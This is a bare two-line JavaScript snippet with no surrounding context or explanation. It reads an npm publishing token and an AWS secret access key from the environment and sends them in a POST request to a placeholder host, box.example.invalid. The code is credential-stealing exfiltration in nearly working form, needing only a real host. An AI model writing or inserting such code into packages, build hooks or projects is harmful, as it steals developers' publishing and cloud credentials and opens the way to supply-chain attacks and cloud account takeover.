const body = JSON.stringify({ a: process.env.NPM_TOKEN, b: process.env.AWS_SECRET_ACCESS_KEY });
fetch("https://box.example.invalid/", { method: "POST", body });
